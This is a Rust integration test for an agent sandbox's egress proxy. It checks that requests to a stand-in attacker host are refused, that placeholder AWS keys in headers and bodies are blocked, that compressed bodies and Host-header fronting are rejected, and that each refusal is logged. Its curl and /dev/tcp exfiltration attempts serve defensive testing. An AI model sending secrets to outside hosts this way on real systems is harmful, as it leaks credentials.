//! What a bottle leans on in its pipelocks, through a real bottle: the same on the double and, with
//! `BOTTLE_TEST_PIPELOCK`, on the real one. Each refusal stands beside what is let through.

// The whole file is a test; what goes wrong in its helpers is a failed test as well.
#![allow(clippy::unwrap_used)]

use bottle_tests::harness::{Bottle, Output, Site, World, wait_until};
use bottle_tests::world::Evidence;
use pipelock_config::log::LogEvent;

const KEY: &str = "AKIAABCDEFGHIJKLMNOP";
const INJECTED: &str = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
const FILES: &str = "https://files.world.example/public/hello";
const PLAIN: &str = "http://files.world.example/public/hello";

/// Status and body of what curl asks for.
fn curl(bottle: &Bottle<'_>, arguments: &[&str]) -> (String, String) {
    let asked = bottle.exec(&[&["curl", "-sS", "-w", "\n%{http_code}"], arguments].concat());
    let (body, status) = asked.stdout.rsplit_once('\n').unwrap_or_else(|| panic!("{asked:?}"));
    (status.to_owned(), body.to_owned())
}

/// Writes bytes to the agent's pipelock and gives all that comes back.
fn raw(bottle: &Bottle<'_>, bytes: &str) -> String {
    let script = "exec 3<>/dev/tcp/pipelock/8888 && printf %b \"$1\" >&3 && timeout 20 cat <&3";
    let Output { stdout, .. } = bottle.exec(&["bash", "-c", script, "bash", bytes]);
    stdout
}

fn refusals(bottle: &Bottle<'_>, role: &str) -> Vec<(Option<String>, String, String)> {
    let lines = bottle.logs().into_iter().filter(|line| line.role == role);
    lines
        .filter_map(|line| match LogEvent::parse(&line.line) {
            Some(LogEvent::Blocked { host, reason, scanner, .. }) => Some((host, scanner, reason)),
            _ => None,
        })
        .collect()
}

#[test]
fn a_bottles_pipelocks_keep_their_contract() {
    let Some(site) = Site::new() else { return };
    let world = World::start(&site);
    site.bottle("dev", &world.bottle_yaml(&site.clients()));
    // Of a shape that pipelock knows, so that it shows whether it may pass.
    std::fs::write(site.path("config/token"), INJECTED).unwrap();
    site.agent("coder", "dev");
    let bottle = site.run("coder").detached(&["sleep", "600"]);
    hosts_that_are_not_listed_are_refused_in_pipelocks_own_words(&bottle);
    secrets_do_not_leave(&bottle);
    what_cannot_be_looked_into_does_not_leave(&bottle);
    a_tunnel_is_for_its_host(&bottle);
    an_injected_credential_passes_and_another_does_not(&bottle, &world);
    it_is_healthy_and_strict(&bottle);
    every_refusal_is_told(&bottle);
    bottle.stop();
    site.assert_nothing_left();
}

fn hosts_that_are_not_listed_are_refused_in_pipelocks_own_words(bottle: &Bottle<'_>) {
    assert_eq!(curl(bottle, &[FILES]).0, "200");
    assert_eq!(curl(bottle, &[PLAIN]).0, "200");
    for host in ["attacker.world.example", "api.world.example"] {
        let answer = raw(
            bottle,
            &format!("CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\nConnection: close\\r\\n\\r\\n"),
        );
        assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
        let body = format!("\r\n\r\nCONNECT blocked: domain not in allowlist: {host}\n");
        assert!(answer.ends_with(&body), "{answer}");
        let (status, body) = curl(bottle, &[&format!("http://{host}/")]);
        assert_eq!((status.as_str(), body), ("403", format!("blocked: domain not in allowlist: {host}\n")));
    }
}

fn secrets_do_not_leave(bottle: &Bottle<'_>) {
    let header = "blocked: request header contains secret\n";
    let body = "blocked: request body contains secret: AWS Access ID\n";
    let named = |name: &str| format!("{name}: {KEY}");
    for url in [FILES, PLAIN] {
        for name in ["X-Other", "User-Agent", "Accept", "Authorization", "X-Api-Key"] {
            assert_eq!(curl(bottle, &["-H", &named(name), url]), ("403".into(), header.into()), "{url} {name}");
        }
        let data = format!("key={KEY}");
        assert_eq!(curl(bottle, &["-d", &data, url]), ("403".into(), body.into()), "{url}");
        for harmless in [&["-H", "X-Other: AKIA"][..], &["-A", "git/2.47.1", "-H", "Git-Protocol: version=2"]] {
            assert_eq!(curl(bottle, &[harmless, &[url]].concat()).0, "200", "{url} {harmless:?}");
        }
    }
    let target = "files.world.example:443";
    let connect = format!(
        "CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\nConnection: close\\r\\n{}\\r\\n\\r\\n",
        named("X-Other")
    );
    let answer = raw(bottle, &connect);
    assert!(
        answer.starts_with("HTTP/1.1 403 ") && answer.ends_with("\r\n\r\nCONNECT blocked: header DLP match\n"),
        "{answer}"
    );
}

fn what_cannot_be_looked_into_does_not_leave(bottle: &Bottle<'_>) {
    let gzip =
        "blocked: request body uses Content-Encoding \"gzip\"; compressed bodies cannot be scanned for secrets\n";
    for url in [FILES, PLAIN] {
        let compressed = curl(bottle, &["-d", "x", "-H", "Content-Encoding: gzip", url]);
        assert_eq!(compressed, ("403".into(), gzip.into()), "{url}");
        let plain = curl(bottle, &["-d", "x", "-H", "Content-Encoding: identity", url]);
        assert_ne!(plain.0, "403", "{url}: {plain:?}");
    }
}

fn a_tunnel_is_for_its_host(bottle: &Bottle<'_>) {
    let fronted = curl(bottle, &["-H", "Host: attacker.world.example", FILES]);
    assert_eq!(fronted, ("403".into(), "authority mismatch: blocked\n".into()));
    assert_eq!(curl(bottle, &["-H", "Host: files.world.example", FILES]).0, "200");
}

fn an_injected_credential_passes_and_another_does_not(bottle: &Bottle<'_>, world: &World<'_>) {
    let route = "http://cred-proxy:9099/api/v1/echo";
    // The world's API knows another one; what matters is that this one came so far.
    assert_eq!(curl(bottle, &[route]).0, "401");
    world.wait_for(
        "api",
        "the injected credential",
        |seen| matches!(seen, Evidence::Request { authorization: Some(a), .. } if *a == format!("Bearer {INJECTED}")),
    );
    let (status, body) = curl(bottle, &["-H", &format!("X-Other: {KEY}"), route]);
    assert!(status == "403" && body.contains("request header contains secret"), "{status} {body}");
}

fn it_is_healthy_and_strict(bottle: &Bottle<'_>) {
    let (status, health) = curl(bottle, &["--noproxy", "*", "http://pipelock:8888/health"]);
    let health: serde_json::Value = serde_json::from_str(&health).unwrap();
    assert_eq!((status.as_str(), health["mode"].as_str()), ("200", Some("strict")));
    let started = |role: &str| {
        let said = bottle.logs().into_iter().filter(|line| line.role == role);
        let mut started = said.filter_map(|line| match LogEvent::parse(&line.line) {
            Some(LogEvent::Startup { mode, hash, .. }) => Some((mode, hash)),
            _ => None,
        });
        started.next().unwrap_or_else(|| panic!("{role} has not said that it started"))
    };
    // The launcher has compared the hashes with what it sent, or there would be no bottle.
    let (agents, routes) = (started("pipelock"), started("route-pipelock"));
    assert_eq!((agents.0.as_str(), routes.0.as_str()), ("strict", "strict"));
    assert!(agents.1 != routes.1 && agents.1.len() == 64 && routes.1.len() == 64, "{agents:?} {routes:?}");
}

fn every_refusal_is_told(bottle: &Bottle<'_>) {
    let long = "curl -sS http://attacker.world.example/$(head -c 65300 /dev/zero | tr '\\0' a)";
    assert_eq!(bottle.sh(long).ok().stdout, "blocked: domain not in allowlist: attacker.world.example\n");
    let told = |host: &str, scanner: &str, reason: &str| {
        refusals(bottle, "pipelock").into_iter().any(|(h, s, r)| {
            h.as_deref() == Some(host) && (scanner.is_empty() || s == scanner) && r.starts_with(reason)
        })
    };
    let files = "files.world.example";
    for (host, scanner, reason) in [
        ("attacker.world.example", "allowlist", "domain not in allowlist: attacker.world.example"),
        ("api.world.example", "allowlist", "domain not in allowlist: api.world.example"),
        (files, "header_dlp", "request header contains secret: AWS Access ID"),
        (files, "header_dlp", "request header contains secret"),
        (files, "body_dlp", "request body contains secret: AWS Access ID"),
        (files, "body_dlp", "request body uses Content-Encoding"),
        ("attacker.world.example", "tls_authority_mismatch", "authority mismatch"),
        ("attacker.world.example", "", pipelock_config::log::REASON_TOO_LONG),
    ] {
        wait_until(&format!("{host} {reason} is told"), || told(host, scanner, reason).then_some(()));
    }
    let all = format!("{:?}", refusals(bottle, "pipelock"));
    assert!(!all.contains(KEY) && !all.contains("/public") && !all.contains("aaaa"), "{all}");
}
